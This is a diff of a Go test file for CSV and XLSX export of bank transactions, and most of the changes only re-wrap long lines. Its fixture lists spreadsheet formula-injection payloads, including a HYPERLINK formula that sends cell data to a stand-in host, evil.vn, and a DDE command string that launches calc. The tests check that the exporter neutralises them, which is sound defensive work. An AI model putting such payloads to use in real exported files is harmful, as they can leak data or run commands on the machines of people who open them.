@@ -22,13 +22,15 @@ var zone = time.FixedZone("", 7*3600)
 // contents are what payers can write; none of them may become a formula.
 var contents = []string{
 	"DH10293 thanh toán", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1",
-	`"=1+1`, "  =1+1", "\u200b=1", "＝1+1", "− 5", "'=1", `quotes "and", commas; semicolons`, "two\nlines", "\u202Egnp.exe", "_x0041_", "DH1;=cmd|'/C calc'!A0;", "DH2, +1+1,", "a\x01b", "<c>&amp;</c>", "",
+	`"=1+1`, "  =1+1", "\u200b=1", "＝1+1", "− 5", "'=1", `quotes "and", commas; semicolons`, "two\nlines", "\u202Egnp.exe", "_x0041_",
+	"DH1;=cmd|'/C calc'!A0;", "DH2, +1+1,", "a\x01b", "<c>&amp;</c>", "",
 }
 
 func transactions() (list []app.Transaction) {
 	for i, content := range contents {
 		t := app.Transaction{
-			ID: int64(i + 1), Bank: "ACB", AccountNumber: "0072413870", Number: "FT00" + string(rune('A'+i)), Type: app.In, Amount: 1_549_000 + int64(i),
+			ID: int64(i + 1), Bank: "ACB", AccountNumber: "0072413870", Number: "FT00" + string(rune('A'+i)), Type: app.In,
+			Amount:  1_549_000 + int64(i),
 			Content: content, Time: time.Date(2026, 11, 21, 10, 59, i, 0, zone), CreatedAt: time.Date(2026, 11, 21, 11, 0, 1, 0, zone),
 		}
 		if i%3 == 1 {
@@ -66,9 +68,11 @@ func TestCSV(t *testing.T) {
 	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
 	must(t, err)
 	want := [][]string{
-		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc", "Ngày giờ là lúc nhận", "Ghi chú cửa hàng", "Mã thanh toán"},
+		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc",
+			"Ngày giờ là lúc nhận", "Ghi chú cửa hàng", "Mã thanh toán"},
 		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0", "", ""},
-		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0", "", ""},
+		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B",
+			"2026-11-21 11:00:01", "0", "", ""},
 		{"3", "2026-11-21", "ACB", "0072413870", "1549002", "", "'+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0", "", ""},
 		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1549003", "", "'-2+3", "FT00D", "2026-11-21 11:00:01", "1", "'=1+1", ""},
 	}
@@ -80,7 +84,8 @@ func TestCSV(t *testing.T) {
 	}
 	for _, row := range rows[1:] {
 		for _, cell := range row {
-			if strings.HasPrefix(strings.TrimLeft(cell, " \"\u200b"), "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "-") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "\t") {
+			if strings.HasPrefix(strings.TrimLeft(cell, " \"\u200b"), "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "-") ||
+				strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "\t") {
 				t.Errorf("a spreadsheet computes %q", cell)
 			}
 		}
@@ -113,9 +118,11 @@ func TestXLSX(t *testing.T) {
 	rows, err := f.GetRows(names[0])
 	must(t, err)
 	want := [][]string{
-		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at", "Date flagged", "Shop note", "Payment code"},
+		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at",
+			"Date flagged", "Shop note", "Payment code"},
 		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1,549,000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0"},
-		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1,549,001", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0"},
+		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1,549,001", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B",
+			"2026-11-21 11:00:01", "0"},
 		{"3", "2026-11-21", "ACB", "0072413870", "1,549,002", "", "+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0"},
 		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1,549,003", "", "-2+3", "FT00D", "2026-11-21 11:00:01", "1", "=1+1"},
 	}
@@ -154,7 +161,9 @@ func TestReadBack(t *testing.T) {
 					if row.Fault != nil {
 						t.Errorf("row %d: %+v", want.ID, row.Fault)
 					}
-					got := app.Transaction{ID: want.ID, Bank: row.Gateway, AccountNumber: row.AccountNumber, Number: row.Number, Type: row.Type, Amount: row.Amount, Content: want.Content, Time: row.Time, DateOnly: row.DateOnly, DateFlaw: want.DateFlaw, CreatedAt: want.CreatedAt, Note: want.Note}
+					got := app.Transaction{ID: want.ID, Bank: row.Gateway, AccountNumber: row.AccountNumber, Number: row.Number, Type: row.Type,
+						Amount: row.Amount, Content: want.Content, Time: row.Time, DateOnly: row.DateOnly, DateFlaw: want.DateFlaw,
+						CreatedAt: want.CreatedAt, Note: want.Note}
 					if diff := cmp.Diff(want, got); diff != "" {
 						t.Error(diff)
 					}
